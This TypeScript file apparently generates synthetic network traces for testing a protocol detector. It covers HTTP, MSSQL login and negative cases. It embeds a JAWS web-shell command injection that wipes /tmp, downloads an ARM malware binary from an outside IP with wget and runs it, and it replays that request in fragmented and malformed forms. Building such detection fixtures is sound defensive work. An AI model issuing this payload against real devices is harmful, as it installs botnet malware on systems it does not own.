/** Traces built with our own emitters: what no client at hand sends, and what must not be recognised. */
import { createHash } from 'node:crypto'
import { loginRecord } from '../lab/squelda.ts'
import { login7 } from './login7.ts'
import { writeTrace } from './trace-file.ts'
import { type Visit, visit } from './visit.ts'

export const JAWS =
  '/shell?cd+/tmp;rm+-rf+*;wget+192.3.67.106/beastmode/b3astmode.arm7;chmod+777+/tmp/b3astmode.arm7;sh+/tmp/b3astmode.arm7+BeastMode.Rep.Jaws'
const jaws = Buffer.from(
  `GET ${JAWS} HTTP/1.1\r\nHost: 127.0.0.1:80\r\nUser-Agent: Hello, world\r\nAccept: text/html\r\n\r\n`,
)
const CLIENT = { host: 'PC-01', user: 'sa', server: '198.51.100.3', library: 'DB-Library' }
/** Eleven segments of 20 bytes, all but the first two back to front, two of them twice. */
const SHUFFLED = [1, 0, 10, 9, 5, 8, 7, 6, 5, 4, 3, 2, 10]

const SQUELDA = loginRecord('198.51.100.3', 'sa', 'squelda')

const VISITS: Readonly<Record<string, Omit<Visit, 'sourcePort'>>> = {
  'http/jaws-60001-out-of-order': { port: 60_001, bytes: jaws, size: 20, order: SHUFFLED },
  'http/jaws-8-byte-by-byte': { port: 8, bytes: jaws, size: 1 },
  'http/jaws-fragmented': { port: 80, bytes: jaws, fragment: 64 },
  'http/jaws-broken-header': {
    port: 8080,
    bytes: Buffer.from(`GET ${JAWS} HTTP/1.0\r\nMozilla/4.0 (no colon)\r\n: no name\r\n\r\n`),
  },
  'http/jaws-no-version': { port: 80, bytes: Buffer.from(`POST ${JAWS}\r\n\r\n`) },
  'mssql/squelda-tds42': { port: 1433, bytes: SQUELDA, size: 512 },
  'mssql/squelda-tds42-split': { port: 4433, bytes: SQUELDA, size: 50 },
  'mssql/squelda-login7': {
    port: 1433,
    bytes: login7({ ...CLIENT, password: 'Passw0rd!', application: 'squelda 1.0' }),
  },
  'mssql/login7-fragmented': {
    port: 1433,
    bytes: login7({ ...CLIENT, password: 'P@ssw0rd', application: 'OSQL-32' }),
    fragment: 40,
  },
  'negative/http-on-6379': {
    port: 6379,
    bytes: Buffer.from('GET /index.html HTTP/1.1\r\nHost: 198.51.100.3:6379\r\n\r\n'),
  },
  'negative/mssql-on-80': {
    port: 80,
    bytes: login7({ ...CLIENT, password: 'sa', application: 'Microsoft SQL Server' }),
  },
  'negative/almost-redis': { port: 6379, bytes: Buffer.from('*1\n$4\nPING\n+OK\n') },
  'negative/almost-http': {
    port: 80,
    bytes: Buffer.from('GTE /index.html HTP/1.1\r\nHost 198.51.100.3\r\n\r\n'),
  },
  'negative/tds-garbage': {
    port: 1433,
    bytes: Buffer.concat([Buffer.from([0x10, 1, 0, 72, 0, 0, 1, 0]), noise('tds', 64)]),
  },
  'negative/ssh-banner-only': { port: 22, bytes: Buffer.from('SSH-2.0-Go\r\n') },
  'negative/zero-bytes': { port: 8443, bytes: Buffer.alloc(0) },
  'negative/zeros': { port: 445, bytes: Buffer.alloc(128) },
  'negative/random-bytes': { port: 31_337, bytes: noise('random', 600), size: 97 },
}

/** The same bytes on every run, without any order in them. */
function noise(seed: string, length: number): Buffer {
  return createHash('shake256', { outputLength: length }).update(seed).digest()
}

export function writeSynthetic(): void {
  for (const [n, [name, how]] of Object.entries(VISITS).entries())
    console.log(`${name} ${writeTrace(name, visit({ ...how, sourcePort: 40_001 + n }))} bytes`)
}
